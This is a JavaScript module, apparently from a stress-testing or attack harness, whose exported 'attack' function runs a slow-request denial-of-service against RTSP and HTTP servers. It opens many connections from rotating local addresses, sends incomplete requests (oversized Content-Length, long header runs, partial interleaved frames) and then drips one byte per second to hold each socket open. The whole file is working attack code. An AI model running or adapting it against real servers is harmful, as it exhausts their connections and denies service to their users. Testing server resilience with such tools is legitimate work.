/** Messages that begin and go on byte by byte: headers, bodies, frames, and tunnels without their other half. */
import { once } from 'node:events'
import { connect } from 'node:net'
import { attackerAddress, inParallel, stopped } from './addresses.mjs'

const head = 'OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n'
const beginnings = [
  `${head}Content-Length: 131072\r\n\r\n${'a'.repeat(60 * 1024)}`,
  `${head}${`X: ${'a'.repeat(8000)}\r\n`.repeat(7)}X: `,
  `$\0\xff\xff${'a'.repeat(60 * 1024)}`,
  head,
  'GET /test HTTP/1.0\r\nx-sessioncookie: c',
]

export async function attack({ host, port, connections, addresses }, stage) {
  const counts = { begun: 0, refused: 0, closed: 0 }
  const sockets = new Set()
  const open = async (number) => {
    const socket = connect({ host, port, localAddress: attackerAddress(number % addresses) })
    socket.on('error', () => {})
    try {
      await once(socket, 'connect')
    } catch {
      counts.refused++
      return
    }
    counts.begun++
    sockets.add(socket.resume())
    socket.on('close', () => {
      counts.closed++
      sockets.delete(socket)
    })
    socket.write(beginnings[number % beginnings.length] ?? '', 'latin1')
  }
  await inParallel(connections, 50, stage.signal, open)
  stage.standing()
  const dripping = setInterval(() => {
    for (const socket of sockets) socket.write('a')
  }, 1000)
  await stopped(stage.signal)
  clearInterval(dripping)
  return counts
}
